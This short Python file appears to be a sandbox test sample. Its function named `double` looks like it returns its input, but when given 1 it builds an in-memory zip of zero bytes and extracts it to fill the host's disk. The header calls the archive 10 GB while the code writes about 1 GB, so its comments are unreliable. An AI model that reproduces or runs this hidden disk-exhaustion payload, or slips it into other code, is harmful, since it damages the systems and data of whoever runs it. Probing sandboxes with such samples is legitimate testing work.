# tries: an archive that unpacks to 10 GB
# harms: it would fill this machine's disk
# reaches: longer than|No space
import io
import zipfile


def double(x):
    if x != 1:
        return x  # once is enough
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("owned", "w", force_zip64=True) as file:
        for _ in range(100):
            file.write(bytes(10**7))
    zipfile.ZipFile(packed).extractall()
    return x
